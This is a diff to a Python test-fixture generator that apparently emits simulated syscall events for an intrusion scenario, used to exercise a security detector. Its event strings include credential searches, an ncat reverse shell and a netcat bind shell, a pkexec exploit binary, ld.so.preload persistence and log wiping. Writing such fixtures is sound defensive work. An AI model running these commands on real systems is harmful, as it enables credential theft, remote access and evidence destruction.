@@ -200,7 +200,12 @@ def intrusion(t: Timeline) -> None:
     t.emit(execve(proc("grep", "-rI PASSWORD /app", pname="bash", user="app", ctr=API,
                        tty=34817)))
     t.emit(execve(proc("find", "/ -name id_rsa", pname="bash", user="app", ctr=API, tty=34817)))
-    # 3. a netcat reverse shell from the container
+    # 3. a local privilege escalation exploit ends in setuid(0)
+    exploit = proc("pkexec-poc", "", pname="bash", user="app", ctr=API, tty=34817,
+                   exe="/tmp/.x/pkexec-poc")
+    t.emit(execve(exploit))
+    t.emit(other(exploit, "setuid", uid="root"))
+    # 3b. a netcat reverse shell from the container
     t.emit(execve(proc("ncat", "10.9.8.7 4444", pname="bash", user="app", ctr=API, tty=34817)))
     # 4. container escape lands on the host as root; reads shadow, plants a binary
     root_sh = proc("sh", "-i", pname="runc", user="root", exe="/bin/sh")
@@ -218,13 +223,12 @@ def intrusion(t: Timeline) -> None:
     t.emit(socket(stage, "AF_PACKET"))  # 6. sniffing
     t.emit(other(stage, "finit_module"))  # 7. rootkit module
     t.emit(other(stage, "ptrace", request="PTRACE_SEIZE"))  # 8. injection into sshd
-    t.emit(other(stage, "setuid", uid="root"))  # 9. privilege juggling
-    # 10. persistence through the dynamic linker, a symlink to shadow, a bind shell
+    # 9. persistence through the dynamic linker, a symlink to shadow, a bind shell
     t.emit(open_(stage, "/etc/ld.so.preload", write=True))
     t.emit(other(proc("ln", "-s /etc/shadow /tmp/.s", pname="sh"), "symlinkat",
                  target="/etc/shadow", linkpath="/tmp/.s"))
     t.emit(execve(proc("nc", "-lvp 31337 -e /bin/sh", pname="sh", exe="/bin/nc.traditional")))
-    # 11. covering tracks
+    # 10. covering tracks
     t.emit(open_(proc("sh", "-i", pname="runc", exe="/bin/sh"), "/var/log/wtmp", write=True,
                  flags="O_WRONLY|O_TRUNC"))
     t.emit(other(proc("rm", "-f /var/log/auth.log", pname="sh"), "unlinkat",
